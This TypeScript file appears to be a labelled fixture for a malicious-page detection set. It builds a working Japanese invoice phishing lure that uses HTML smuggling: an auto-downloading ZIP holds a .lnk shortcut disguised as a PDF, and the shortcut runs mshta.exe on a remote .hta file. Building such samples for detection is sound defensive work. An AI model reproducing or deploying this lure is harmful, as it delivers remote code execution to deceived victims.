import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { cfb, fileRoute, iso, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { baseCss, doc } from '../parts/g-kit.js';
const jpZipB64 = zip([
  { name: '請求書_2025年11月分.pdf.lnk', data: lnk('C:\\Windows\\System32\\mshta.exe', 'https://seikyu-docs-cloud.com/v.hta', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe,11') },
]).toString('base64');
export const entries: Entry[] = [
  // Japanese invoice page: ZIP with LNK assembled in the browser (HTML smuggling)
  {
    id: 'g-mal-ja-seikyusho-blob-zip-lnk',
    label: 'malware',
    kind: 'doc-lure',
    url: 'https://seikyu-docs-cloud.com/share/inv/20251128-0193',
    body: doc({
      lang: 'ja',
      title: '請求書のご送付（2025年11月分）',
      css: `body{margin:0;font-family:'Yu Gothic',Meiryo,sans-serif;background:#f5f6f8;color:#333}.c{max-width:560px;margin:60px auto;background:#fff;border:1px solid #dde;padding:30px;text-align:center}.sp{width:36px;height:36px;border:4px solid #ddd;border-top-color:#2a6ebb;border-radius:50%;margin:20px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}`,
      body: `<div class="c"><h2>請求書のダウンロード</h2><p>株式会社サンライズ物流 経理部より請求書（2025年11月分）が共有されました。</p><div class="sp"></div><p id="m">ファイルを準備しています…</p><p style="font-size:12px;color:#888">ダウンロードが開始されない場合は<a href="#" id="again">こちら</a>をクリックしてください。<br>ダウンロード後、ZIPファイルを展開して請求書を開いてください。</p></div>
<script>var d='${jpZipB64}';function go(){var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var blob=new Blob([u],{type:'application/zip'});var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='請求書_2025年11月分.zip';document.body.appendChild(a);a.click();document.getElementById('m').textContent='ダウンロードが完了しました。'}setTimeout(go,1500);document.getElementById('again').onclick=function(e){e.preventDefault();go()}</script>`,
    }),
  },
];

